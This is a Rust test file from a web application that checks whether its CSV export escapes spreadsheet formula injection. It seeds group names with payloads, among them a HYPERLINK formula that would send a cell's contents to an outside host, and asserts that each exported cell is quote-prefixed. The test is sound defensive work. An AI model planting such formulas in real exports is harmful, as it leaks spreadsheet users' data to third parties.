//! The data's life cycle (issue 9, items 7, 8, 12, 14): exports that spreadsheets cannot
//! evaluate, personal links masked once mail is sent, uploads removed after import, retention
//! with a moved clock, and backups that boot.

use crate::both_backends;
use crate::common::{id_from_location, TestApp};

// ── item 7: CSV export (ASVS V1.2.10) ───────────────────────────────────────────────────────

both_backends!(
    coverage_csv_cells_cannot_be_formulas,
    |app: TestApp| async move {
        let mut admin = app.admin().await;
        admin.get("/groups/new").await;
        let evil = "=HYPERLINK(\"http://x.nl/?\"&A1;\"5A\")";
        let page = admin
            .post("/groups/new", &[("name", evil), ("school_type", "po")])
            .await;
        id_from_location(&page.location.expect("group created"));
        for name in ["+31 6", "-1", "@SUM(A1)"] {
            admin
                .post("/groups/new", &[("name", name), ("school_type", "po")])
                .await;
        }
        let csv = admin.get("/coverage.csv").await;
        assert_eq!(csv.status, 200);
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .has_headers(false)
            .from_reader(csv.body.as_bytes());
        let cells: Vec<String> = reader
            .records()
            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect();
        assert!(cells.contains(&format!("'{evil}")), "{}", csv.body);
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "formula cell {cell:?} in {}",
                csv.body
            );
        }
        assert!(cells.contains(&"'+31 6".to_string()), "{}", csv.body);
    }
);
